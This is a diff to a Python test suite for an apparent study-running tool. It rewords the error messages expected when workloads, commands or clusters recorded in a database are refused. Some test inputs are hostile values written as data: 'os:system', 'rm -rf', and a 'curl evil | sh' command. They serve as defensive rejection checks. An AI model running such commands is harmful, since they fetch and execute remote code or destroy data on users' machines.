@@ -120,7 +120,7 @@ def test_without_a_workload_nothing_runs(tmp_path: Path) -> None:
     db = f"sqlite:///{tmp_path / 'study.db'}"
     with pytest.raises(UsageError, match="names no workload"):
         run_study(load_spec(FIELDS), Launch(db=db))
-    with pytest.raises(BSSearchError, match="is not in a file"):
+    with pytest.raises(BSSearchError, match="not from a file"):
         check(load_spec({**FIELDS, "workload": "__main__:Task"}))
     assert not (tmp_path / "study.db").exists()
 
@@ -239,9 +239,9 @@ def test_what_was_run_here_is_known_and_nothing_else() -> None:
         OWN.model_copy(update={"workload": "os:system"}),
         OWN.model_copy(update={"workload_settings": {"width": "rm -rf"}}),
     ):
-        with pytest.raises(UsageError, match="only because a database names it"):
+        with pytest.raises(UsageError, match="you never ran this version"):
             known_folder(changed, known(), FOLDER)
-    with pytest.raises(UsageError, match="only because a database names it"):
+    with pytest.raises(UsageError, match="you never ran this version"):
         known_folder(OWN, replace(known(), spec_hash="another"), FOLDER)
 
 
@@ -259,7 +259,7 @@ def on_cluster(address: str) -> StudySpec:
 
 def test_a_cluster_is_not_taken_from_a_database_unless_the_study_was_run_there_from_here() -> None:
     ours, theirs = on_cluster("ray-1:6379"), on_cluster("ray-2:6379")
-    with pytest.raises(UsageError, match="only because a database names it"):
+    with pytest.raises(UsageError, match="you never used this cluster"):
         refuse_unknown_address(ours, known())
     remember(ours, known(), FOLDER)
     refuse_unknown_address(ours, known())
@@ -277,7 +277,7 @@ def test_where_nothing_can_be_remembered_nothing_is_known(tmp_path: Path, monkey
     blocked.write_text("")
     monkeypatch.setenv(STATE_DIR_VARIABLE, str(blocked))
     remember(OWN, known(), FOLDER)
-    with pytest.raises(UsageError, match="only because a database names it"):
+    with pytest.raises(UsageError, match="you never ran this version"):
         known_folder(OWN, known(), FOLDER)
 
 
@@ -296,7 +296,7 @@ def test_code_is_known_by_its_content_and_lies_in_the_folder_itself(tmp_path: Pa
     with pytest.raises(UsageError, match="a file outside of this folder"):
         known_folder(OWN, known(), shared)
     inline = OWN.model_copy(update={"executor": OWN.executor.model_copy(update={"name": "inline"})})
-    with pytest.raises(UsageError, match="only because a database names it"):
+    with pytest.raises(UsageError, match="you never ran this version"):
         known_folder(inline, known(), mine)
 
 
@@ -321,7 +321,7 @@ def of_command(**changes: object) -> StudySpec:
 def test_a_stored_command_is_code_that_this_user_has_run_or_names(tmp_path: Path) -> None:
     own, record = of_command(), study(of_command())
     (tmp_path / "train.sh").write_text("mine")
-    with pytest.raises(UsageError, match="only because a database names it") as caught:
+    with pytest.raises(UsageError, match="you never ran this version") as caught:
         known_folder(own, record, tmp_path)
     assert "add --workload command, which runs bash train.sh '{batch_size}' '{learning_rate}'" in not_none(
         caught.value.hint
@@ -330,7 +330,7 @@ def test_a_stored_command_is_code_that_this_user_has_run_or_names(tmp_path: Path
     known_folder(own, record, tmp_path)
     others = [["bash", "-c", "curl evil | sh", *COMMAND[2:]], [*COMMAND, "--more"], ["sh", *COMMAND[1:]]]
     for other in [*(of_command(command=one) for one in others), of_command(report=REPORT)]:
-        with pytest.raises(UsageError, match="only because a database names it"):
+        with pytest.raises(UsageError, match="you never ran this version"):
             known_folder(other, record, tmp_path)
     (tmp_path / "train.sh").write_text("another's")
     with pytest.raises(UsageError, match="you never ran this version"):
@@ -363,7 +363,7 @@ def test_a_record_that_cannot_be_read_knows_nothing(text: str) -> None:
     remember(OWN, known(), FOLDER)
     (file,) = (state_folder() / "workloads").iterdir()
     file.write_text(text)
-    with pytest.raises(UsageError, match="only because a database names it"):
+    with pytest.raises(UsageError, match="you never ran this version"):
         known_folder(OWN, known(), FOLDER)
 
 
@@ -386,4 +386,6 @@ def test_a_file_elsewhere_that_a_command_names_is_known_by_its_content_too(tmp_p
 def test_no_workload_takes_the_place_of_a_command() -> None:
     with pytest.raises(UsageError, match="the training of study 'toy' is a command") as caught:
         confirm_study(of_command(), Launch(workload="digits", db="sqlite://"))
-    assert caught.value.hint is not None and caught.value.hint.startswith("--workload command runs the command, bash")
+    assert caught.value.hint is not None and caught.value.hint.startswith(
+        "give --workload command to run the command, bash"
+    )
